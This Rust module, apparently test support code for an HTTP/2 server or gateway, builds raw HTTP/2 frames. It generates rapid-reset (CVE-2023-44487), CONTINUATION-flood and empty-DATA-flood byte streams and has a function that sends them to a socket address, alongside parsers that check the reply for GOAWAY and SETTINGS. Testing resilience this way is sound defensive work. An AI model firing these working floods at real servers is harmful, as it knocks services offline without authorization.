//! HTTP/2 over raw frames (RFC 9113 §4.1), for floods no well-behaved client would send.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// The client connection preface (RFC 9113 §3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// One frame: 24-bit length, type, flags, stream id, payload.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// HPACK: `:method GET`, `:scheme http`, `:path /` from the static table, `:authority gw` literal.
pub fn request_block() -> Vec<u8> {
    vec![0x82, 0x86, 0x84, 0x41, 0x02, b'g', b'w']
}

/// Rapid reset (CVE-2023-44487): 20 000 HEADERS + RST_STREAM pairs on one connection.
pub fn rapid_reset() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(0x4, 0, 0, &[]));
    for i in 0..20_000u32 {
        let stream = 2 * i + 1;
        bytes.extend(frame(0x1, 0x5, stream, &request_block()));
        bytes.extend(frame(0x3, 0, stream, &8u32.to_be_bytes()));
    }
    bytes
}

/// CONTINUATION flood (RUSTSEC-2024-0332): a header block that never ends.
pub fn continuation_flood() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(0x4, 0, 0, &[]));
    bytes.extend(frame(0x1, 0x1, 1, &request_block()));
    let filler = [0x40, 0x03, b'x', b'-', b'a', 0x10]
        .iter()
        .copied()
        .chain(std::iter::repeat_n(b'v', 16))
        .collect::<Vec<_>>();
    for _ in 0..10_000 {
        bytes.extend(frame(0x9, 0, 1, &filler));
    }
    bytes
}

/// Empty DATA flood: 100 000 zero-length DATA frames on one open stream.
pub fn empty_data_flood() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(0x4, 0, 0, &[]));
    bytes.extend(frame(
        0x1,
        0x4,
        1,
        &[0x83, 0x86, 0x84, 0x41, 0x02, b'g', b'w'],
    ));
    for _ in 0..100_000 {
        bytes.extend(frame(0x0, 0, 1, &[]));
    }
    bytes
}

/// Writes the flood (ignoring a write error: the server may hang up mid-flood, which is the
/// point), then drains what the server sends until it closes or goes quiet.
pub async fn flood(addr: SocketAddr, bytes: Vec<u8>) -> Vec<u8> {
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    let (mut read, mut write) = stream.split();
    let writer = async move {
        let _ = write.write_all(&bytes).await;
    };
    let reader = async {
        let mut got = Vec::new();
        let mut buf = vec![0u8; 64 * 1024];
        loop {
            match tokio::time::timeout(Duration::from_secs(2), read.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) | Err(_) => return got,
                Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            }
        }
    };
    let ((), got) = tokio::join!(writer, reader);
    got
}

/// The frames in `bytes` as (type, flags, stream, payload); a truncated last frame is left out.
pub fn frames(bytes: &[u8]) -> Vec<(u8, u8, u32, &[u8])> {
    let mut out = Vec::new();
    let mut at = 0;
    while at + 9 <= bytes.len() {
        let len = (usize::from(bytes[at]) << 16)
            | (usize::from(bytes[at + 1]) << 8)
            | usize::from(bytes[at + 2]);
        if at + 9 + len > bytes.len() {
            break;
        }
        let stream =
            u32::from_be_bytes([bytes[at + 5], bytes[at + 6], bytes[at + 7], bytes[at + 8]])
                & 0x7fff_ffff;
        out.push((
            bytes[at + 3],
            bytes[at + 4],
            stream,
            &bytes[at + 9..at + 9 + len],
        ));
        at += 9 + len;
    }
    out
}

/// Whether the server sent a GOAWAY frame (type 0x7) in `bytes`.
pub fn saw_goaway(bytes: &[u8]) -> bool {
    frames(bytes).iter().any(|f| f.0 == 0x7)
}

/// The parameters of the server's first SETTINGS frame (RFC 9113 §6.5.1), as (id, value).
pub fn server_settings(bytes: &[u8]) -> Vec<(u16, u32)> {
    let Some(settings) = frames(bytes)
        .into_iter()
        .find(|f| f.0 == 0x4 && f.1 & 0x1 == 0)
    else {
        return Vec::new();
    };
    settings
        .3
        .chunks_exact(6)
        .map(|p| {
            (
                u16::from_be_bytes([p[0], p[1]]),
                u32::from_be_bytes([p[2], p[3], p[4], p[5]]),
            )
        })
        .collect()
}
